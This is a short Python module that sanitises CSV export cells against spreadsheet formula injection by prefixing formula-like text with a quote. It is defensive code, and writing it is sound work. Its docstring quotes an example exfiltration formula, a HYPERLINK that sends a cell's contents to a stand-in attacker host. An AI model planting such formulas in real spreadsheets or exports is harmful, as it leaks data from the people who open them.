"""Spreadsheet formula injection (CWE-1236): a cell that starts with `=`, `+`, `-`, `@`, a tab or a
carriage return is taken as a formula by Excel, LibreOffice and Google Sheets when a CSV file is
opened, so participant-typed text such as `=HYPERLINK("http://evil.example/?d="&A1)` would run in
the researcher's spreadsheet. Text cells are neutralised as OWASP recommends: prefixed with a
single quote in CSV; written as string cells (never formulas) in XLSX. The JSON export keeps every
value as typed, so the original stays recoverable."""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PREFIX = "'"


def is_formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def csv_cell(value: Any) -> Any:
    """The value as a CSV cell: None → empty, formula-like text → prefixed with `'`."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return PREFIX + value
    return value


def csv_row(row: Sequence[Any]) -> Sequence[Any]:
    """The row as CSV cells (the csv module writes None as an empty cell itself); copied only when
    one of its cells needs the prefix, which keeps the common case cheap."""
    for value in row:
        if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
            return [csv_cell(cell) for cell in row]
    return row
